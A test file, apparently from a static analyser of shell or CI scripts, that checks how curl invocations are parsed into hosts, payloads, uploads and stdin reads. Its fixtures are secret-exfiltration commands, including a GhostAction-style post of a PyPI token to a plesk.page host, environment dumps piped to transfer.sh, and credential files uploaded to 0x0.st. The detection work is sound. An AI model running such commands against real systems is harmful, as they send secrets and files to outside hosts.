import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { matchCommand } from '../../../src/analysis/sinks/index.js';
import { cmd, script, v } from '../ir-builders.js';
import { one, sinks, summarise } from './helpers.js';

describe('curl (built IR)', () => {
  it('short-option bundle ending in -d takes the next word as data', () => {
    const op = cmd('curl', ['-sSfLd', ['token=', v('T')], 'https://x.example/c']);
    const [m] = matchCommand(op, script([op]));
    assert.ok(m);
    const s = summarise(m);
    assert.deepEqual(s.hosts, ['x.example']);
    assert.ok(s.payload.includes('token=${T}'));
  });
  it('attached short value: -dVALUE and -H"…"', () => {
    const op = cmd('curl', [['-d', v('T')], '-HAuthorization: x', 'h.example']);
    const s = summarise(matchCommand(op, script([op]))[0]!);
    assert.ok(s.payload.includes('${T}'));
    assert.ok(s.payload.includes('Authorization: x'));
    assert.deepEqual(s.hosts, ['h.example']);
  });
  it('-- ends options', () => {
    const op = cmd('curl', ['-s', '--', '-weird.example']);
    const s = summarise(matchCommand(op, script([op]))[0]!);
    assert.deepEqual(s.hosts, ['-weird.example']);
  });
});

describe('curl (parsed)', () => {
  it('GhostAction: token in -d to a plesk.page host', async () => {
    const s = await one(
      'curl -s -d "token=${{ secrets.PYPI_API_TOKEN }}" https://bold-dhawan.45-139-104-115.plesk.page',
    );
    assert.equal(s.tool, 'curl');
    assert.equal(s.channel, 'http');
    assert.deepEqual(s.hosts, ['bold-dhawan.45-139-104-115.plesk.page']);
    assert.equal(s.payload.length, 2);
  });

  it('every data option is payload', async () => {
    for (const opt of [
      '-d',
      '--data',
      '--data-binary',
      '--data-raw',
      '--data-ascii',
      '--json',
      '--data-urlencode',
      '--form-string',
      '--url-query',
    ]) {
      const s = await one(`curl ${opt} "x=$SECRET" https://h.example/`);
      assert.ok(
        s.payload.some((p) => p.includes('SECRET')),
        opt,
      );
      assert.deepEqual(s.hosts, ['h.example'], opt);
    }
  });

  it('--opt=value forms', async () => {
    const s = await one('curl --data="$T" --url=https://u.example/x');
    assert.deepEqual(s.hosts, ['u.example']);
    assert.ok(s.payload.some((p) => p.includes('T')));
  });

  it('headers, user, bearer, cookie strings are payload', async () => {
    const s = await one(
      'curl -H "Authorization: Bearer $T" -u "me:$P" --oauth2-bearer "$B" -b "session=$C" -A "$UA" -e "$R" https://h.example',
    );
    for (const v of ['T', 'P', 'B', 'C', 'UA', 'R'])
      assert.ok(
        s.payload.some((p) => p.includes(`$${v}`) || p.includes(`{${v}}`)),
        v,
      );
  });

  it('@- reads stdin; @file uploads the file', async () => {
    assert.equal((await one('printenv | curl -d @- https://h.example')).stdin, true);
    assert.equal((await one('curl --data-binary @- https://h.example')).stdin, true);
    assert.deepEqual((await one('curl -d @secrets.txt https://h.example')).uploads, ['secrets.txt']);
    assert.deepEqual((await one('curl --data-urlencode name@f.txt https://h.example')).uploads, ['f.txt']);
    assert.deepEqual((await one('curl -H @headers.txt https://h.example')).uploads, ['headers.txt']);
    assert.deepEqual((await one('curl -b cookies.txt https://h.example')).uploads, ['cookies.txt']);
  });

  it('-F forms: value, @file, <file, @-', async () => {
    const s = await one(
      'curl -F "t=$T" -F "file=@/tmp/env.txt;type=text/plain" -F "c=<creds" https://0x0.st',
    );
    assert.deepEqual(s.uploads, ['/tmp/env.txt', 'creds']);
    assert.ok(s.payload.some((p) => p.includes('T')));
    assert.deepEqual(s.hosts, ['0x0.st']);
    assert.equal((await one('curl -F "f=@-" https://0x0.st')).stdin, true);
  });

  it('-T uploads; -T - reads stdin', async () => {
    assert.deepEqual((await one('curl -T dump.bin https://transfer.sh/dump.bin')).uploads, ['dump.bin']);
    assert.equal((await one('env | curl --upload-file - https://transfer.sh/x')).stdin, true);
  });

  it('options with arguments are not URLs', async () => {
    const s = await one(
      'curl -o out.txt -w "%{http_code}" -X POST --connect-timeout 5 -m 10 -A agent https://h.example',
    );
    assert.deepEqual(s.hosts, ['h.example']);
  });

  it('no scheme means http; several URLs; proxies', async () => {
    assert.deepEqual((await one('curl evil.example:8080/x')).hosts, ['evil.example:8080']);
    assert.deepEqual((await one('curl https://a.example https://b.example')).hosts, [
      'a.example',
      'b.example',
    ]);
    assert.deepEqual((await one('curl -x http://proxy.example:3128 https://a.example')).hosts, [
      'proxy.example:3128',
      'a.example',
    ]);
  });

  it('a config file makes the destination unknown', async () => {
    const s = await one('curl -K cfg.txt');
    assert.deepEqual(s.hosts, ['?']);
    assert.deepEqual(s.uploads, ['cfg.txt']);
  });

  it('a dynamic host is unknown, a dynamic path keeps the host', async () => {
    assert.deepEqual((await one('curl "https://$HOST/x"')).hosts, ['?']);
    assert.deepEqual((await one('curl "https://api.example.com/$PATH_PART"')).hosts, ['api.example.com']);
  });

  it('the URL itself is payload (query strings carry data)', async () => {
    const s = await one('curl "https://h.example/?t=$TOKEN"');
    assert.ok(s.payload.some((p) => p.includes('TOKEN')));
  });

  it('--netrc reads ~/.netrc', async () => {
    assert.deepEqual((await one('curl -n https://h.example')).readsFiles, ['~/.netrc']);
  });

  it('sudo and paths are stripped by the parser', async () => {
    const all = await sinks('sudo /usr/bin/curl -d x https://h.example');
    assert.equal(all.length, 1);
  });
});
